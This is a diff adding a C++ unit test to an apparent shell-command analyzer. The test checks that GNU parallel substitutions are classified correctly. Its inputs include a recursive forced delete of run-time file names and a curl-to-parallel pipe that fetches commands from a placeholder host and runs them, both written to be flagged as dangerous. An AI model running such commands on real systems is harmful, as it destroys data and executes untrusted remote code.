@@ -58,4 +58,16 @@ TEST(XargsCommandsTest, ParallelQuotesItsArguments) {
 }
 
 }  // namespace
+// GNU parallel quotes what it substitutes: an item only known at run time is one unknown word
+// in each replacement string, not code; items from the network still run as code.
+TEST(XargsCommandsTest, ParallelItemsUnknownAreWordsNotCode) {
+  Facts f = Analyze("ls *.md | parallel -j4 pandoc {} -o build/{.}.html");
+  EXPECT_FALSE(HasSignal(f, kSignalDynamicScript)) << Dump(f);
+  EXPECT_NE(FindCommand(f, "pandoc"), nullptr) << Dump(f);
+  Facts g = Analyze("cat list | parallel rm -rf {}");
+  EXPECT_TRUE(std::any_of(g.files.begin(), g.files.end(), [](const FileFact& x) { return x.op == FileOp::kDelete && x.dynamic; }))
+      << Dump(g);
+  EXPECT_TRUE(HasSignal(Analyze("curl -s https://x/jobs | parallel {}"), kSignalRce));
+}
+
 }  // namespace warden::shell
